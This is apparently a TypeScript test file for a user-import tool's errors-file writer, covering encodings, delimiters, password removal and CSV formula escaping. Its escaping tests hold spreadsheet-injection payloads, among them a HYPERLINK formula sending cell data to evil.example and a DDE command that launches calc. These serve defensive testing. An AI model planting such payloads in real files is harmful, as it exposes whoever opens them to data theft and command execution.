import { describe, expect, it } from 'vitest';
import { defaultPolicy, type FieldPolicy } from '../../../src/lib/domain/policy';
import { parseCsv, type CsvTable } from '../../../src/lib/import/csv';
import { decodeText, type EncodingInfo } from '../../../src/lib/import/decode';
import {
	encodeText,
	errorsFileName,
	errorsTable,
	toCsv,
	writeErrorsFile
} from '../../../src/lib/import/errors-file';
import { escapeFormula, unescapeFormula } from '../../../src/lib/import/formula';
import { mapHeaders } from '../../../src/lib/import/headers';
import { checkRows } from '../../../src/lib/import/rows';
import { everything, gb, preset, table } from './helpers';

/** Imports a file, writes its errors file, and reads that back as the admin's spreadsheet would. */
function roundTrip(file: CsvTable, policy: FieldPolicy, encoding?: EncodingInfo) {
	const mapping = mapHeaders(file.headers, policy);
	const check = checkRows(file.rows, mapping, { policy, context: gb, firstRow: file.headerRow + 1 });
	const written = writeErrorsFile(file, check, mapping, encoding);
	const text = decodeText(written.bytes);
	if (!text.ok) throw new Error(text.message);
	return { written, text: text.value, back: parseCsv(text.value.text, { delimiter: file.delimiter }) };
}

describe('the errors file', () => {
	it("gives back the admin's rows with an Errors column, in UTF-8 with BOM by default", () => {
		const file = table('workflow-d.csv');
		const { written, text, back } = roundTrip(file, preset('field-heavy'));
		expect([...written.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
		expect(written.encoding).toEqual({ encoding: 'utf-8', hasBom: true });
		expect(text.encoding).toBe('utf-8');
		expect(back.headers).toEqual([...file.headers, 'Errors']);
		expect(back.rows.map((r) => r.at(-1))).toEqual([
			'',
			'Email: The email domain needs an ending such as .com or .org, as in name@example.com. Password: Password needs at least 8 characters.',
			'Mobile phone: Mobile phone is required. UDID: UDID must be 40 hexadecimal digits, or 8 and 16 joined by a hyphen (00008030-001A2B3C4D5E6F70). Add to global address book: In global address book must be Yes or No.'
		]);
		// Every other cell as given (leading zeros too), apart from the password, which never leaves Rollcall.
		const passwordColumn = file.headers.indexOf('Password');
		back.rows.forEach((row, i) => {
			const given = file.rows[i]!;
			expect(row.slice(0, -1).map((cell, j) => (j === passwordColumn ? given[j] : cell))).toEqual(
				given.map((cell) => escapeFormula(cell))
			);
			expect(row[passwordColumn]).toBe('');
		});
		expect(back.rows[0]?.[8]).toBe('000123');
		expect(text.text).not.toMatch(/correct horse|enigma machine|short/u);
	});

	it('leaves out a password even when the policy hides its column', () => {
		const file = table('google-workspace.csv');
		const { back, text } = roundTrip(file, defaultPolicy);
		expect(back.headers[3]).toBe('Password [Required]');
		expect(back.rows[0]?.[3]).toBe('');
		expect(back.rows[0]?.[0]).toBe('Dana');
		expect(text.text).not.toContain('trust no one');
	});

	it('keeps the delimiter of the upload', () => {
		const semicolons = roundTrip(table('semicolon-decimal-commas.csv'), everything);
		expect(semicolons.back.delimiter).toBe(';');
		expect(semicolons.text.text.split('\r\n')[0]).toBe(
			'First name;Last name;Email;Hours (weekly, contracted);Errors'
		);
		expect(semicolons.back.rows[2]).toEqual(['Marie; Claire', 'Dubois', 'marie@example.fr', '0,5', '']);
		expect(roundTrip(table('pipe.txt'), everything).text.text).toContain('|"Navy | Reserve"|');
	});

	it("can use the upload's own encoding: UTF-16 with BOM (Excel's Unicode Text), Windows-1252", () => {
		const unicode = roundTrip(table('utf16le-unicode-text.txt'), everything, {
			encoding: 'utf-16le',
			hasBom: true
		});
		expect([...unicode.written.bytes.subarray(0, 2)]).toEqual([0xff, 0xfe]);
		expect(unicode.text).toMatchObject({ encoding: 'utf-16le', hasBom: true });
		expect(unicode.back.delimiter).toBe('\t');
		expect(unicode.back.rows[2]?.[1]).toBe('Silva 😀');
		const bigEndian = roundTrip(table('utf16be-unicode-text.txt'), everything, {
			encoding: 'utf-16be',
			hasBom: true
		});
		expect(bigEndian.text.encoding).toBe('utf-16be');
		expect(bigEndian.back.rows).toEqual(unicode.back.rows);

		const western = roundTrip(table('windows-1252.csv'), everything, {
			encoding: 'windows-1252',
			hasBom: false
		});
		expect(western.written.encoding.encoding).toBe('windows-1252');
		expect(western.text.encoding).toBe('windows-1252');
		expect(western.back.rows.map((r) => r.slice(0, -1))).toEqual(table('windows-1252.csv').rows);
	});

	it('falls back to UTF-8 with BOM when Windows-1252 cannot hold the text', () => {
		expect(encodeText('Łukasz', { encoding: 'windows-1252', hasBom: false }).encoding).toEqual({
			encoding: 'utf-8',
			hasBom: true
		});
		expect([...encodeText('é€', { encoding: 'windows-1252', hasBom: false }).bytes]).toEqual([0xe9, 0x80]);
		expect([...encodeText('A', { encoding: 'utf-16be', hasBom: false }).bytes]).toEqual([0, 0x41]);
	});

	it('escapes formulae in every cell so the file is safe to open in a spreadsheet', () => {
		const { back } = roundTrip(table('formulas.csv'), everything);
		const cells = back.rows.flat();
		expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/u.test(cell))).toEqual([]);
		expect(back.rows[0]?.slice(0, 6)).toEqual([
			`'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
			'Lovelace',
			'ada@example.com',
			"'@SUM(1+1)*cmd|'/C calc'!A0",
			"'+44 20 7946 0958",
			"'-2+3"
		]);
		expect(back.rows[1]?.slice(0, 6)).toEqual([
			"'\tTabbed",
			'Hopper',
			'grace@example.com',
			"'＝1+1",
			"'=1+1\nsecond line",
			"'＠home"
		]);
	});

	it('reads a corrected errors file again: escapes undone, its Errors column ignored and reused', () => {
		const first = roundTrip(table('formulas.csv'), everything).back;
		// The admin fixes the bad phone number in row 3 and uploads the errors file.
		first.rows[1]![4] = '+44 20 7946 0000';
		const mapping = mapHeaders(first.headers, everything);
		expect(mapping.columns.at(-1)).toMatchObject({ status: 'ignored', header: 'Errors' });
		const check = checkRows(first.rows, mapping, { policy: everything, context: gb });
		expect(check.errors).toEqual([]);
		expect(check.rows[0]?.values).toMatchObject({ businessPhone: '+442079460958', department: '-2+3' });
		const again = errorsTable(first, check, mapping);
		expect(again[0]).toEqual([...first.headers]);
		expect(again.every((row) => row.length === first.headers.length)).toBe(true);
	});

	it('writes back the preamble line above the header', () => {
		const { back, text } = roundTrip(table('entra-bulk-create.csv'), everything);
		expect(text.text.startsWith('version:v1.0\r\n')).toBe(true);
		expect(back.headerRow).toBe(2);
		expect(back.headers.at(-1)).toBe('Errors');
	});

	it('lines up the Errors column under short and long rows', () => {
		const file = {
			headers: ['Email', 'Name'],
			rows: [['a@example.com'], ['b@example.com', 'B', 'extra']],
			headerRow: 1
		};
		const mapping = mapHeaders(file.headers, everything);
		const check = checkRows(file.rows, mapping, { policy: everything, context: gb });
		expect(errorsTable(file, check, mapping)).toEqual([
			['Email', 'Name', '', 'Errors'],
			['a@example.com', '', '', ''],
			[
				'b@example.com',
				'B',
				'extra',
				'Column C: This row has a value in column C, past the 2 columns of the header: a value that contains the delimiter must be in quotes.'
			]
		]);
	});

	it('quotes cells holding the delimiter, quotes or line breaks', () => {
		expect(toCsv([['a,b', 'say "hi"', 'two\nlines', 'plain']], ',')).toBe(
			'"a,b","say ""hi""","two\nlines",plain\r\n'
		);
		expect(toCsv([['a,b', 'c;d']], ';')).toBe('a,b;"c;d"\r\n');
	});

	it('names the file after the upload', () => {
		expect(errorsFileName('users.csv')).toBe('users (errors).csv');
		expect(errorsFileName('export.2024.txt')).toBe('export.2024 (errors).txt');
		expect(errorsFileName('users')).toBe('users (errors).csv');
	});
});

describe('formula escaping (OWASP CSV injection)', () => {
	it.each([
		['=1+1', "'=1+1"],
		['+44 20', "'+44 20"],
		['-2', "'-2"],
		['@SUM(A1)', "'@SUM(A1)"],
		['\t=1', "'\t=1"],
		['\r=1', "'\r'=1"],
		['＝1+1', "'＝1+1"],
		['＋1', "'＋1"],
		['－1', "'－1"],
		['＠x', "'＠x"],
		['=1+1\n=2+2', "'=1+1\n'=2+2"],
		['Ada', 'Ada'],
		['a=b', 'a=b'],
		['', '']
	])('%j -> %j, and back', (cell, escaped) => {
		expect(escapeFormula(cell)).toBe(escaped);
		expect(unescapeFormula(escapeFormula(cell))).toBe(cell);
	});

	it('leaves an apostrophe that does not escape a formula alone', () => {
		expect(unescapeFormula("'quoted'")).toBe("'quoted'");
		expect(unescapeFormula("O'Brien")).toBe("O'Brien");
	});
});
